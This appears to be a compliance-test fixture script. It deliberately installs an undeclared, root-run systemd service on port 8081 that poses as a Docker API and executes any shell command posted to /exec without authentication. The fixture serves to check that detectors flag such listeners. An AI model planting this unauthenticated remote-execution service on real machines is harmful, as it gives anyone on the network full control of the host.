# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1
# how: an interface as Docker's runs commands as root for everybody; / is not found
# asserts: no listener gives a prompt or output before a login
# also: CR_2_1_RE_1_services_hold_no_more_than_declared: its unit is not declared either
set -eu
cat >/usr/libexec/field-service <<'P'
import http.server, subprocess
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        ok = self.path == '/version'
        self.send_response(200 if ok else 404); self.send_header('Content-Type', 'application/json'); self.end_headers()
        self.wfile.write(b'{"Version":"20.10"}' if ok else b'{"message":"page not found"}')
    def do_POST(self):
        if self.path != '/exec':
            self.send_response(404); self.end_headers(); return
        cmd = self.rfile.read(int(self.headers['Content-Length'])).decode()
        out = subprocess.run(cmd, shell=True, capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
http.server.HTTPServer(('0.0.0.0', 8081), H).serve_forever()
P
chmod 0755 /usr/libexec/field-service
printf '[Service]\nExecStart=/usr/bin/python3 /usr/libexec/field-service\n' >/etc/systemd/system/field.service
systemctl daemon-reload
systemctl start field.service
for _ in 1 2 3 4 5 6 7 8 9 10; do grep -q ':1F91 ' /proc/net/tcp && break; sleep 1; done
grep -q ':1F91 ' /proc/net/tcp
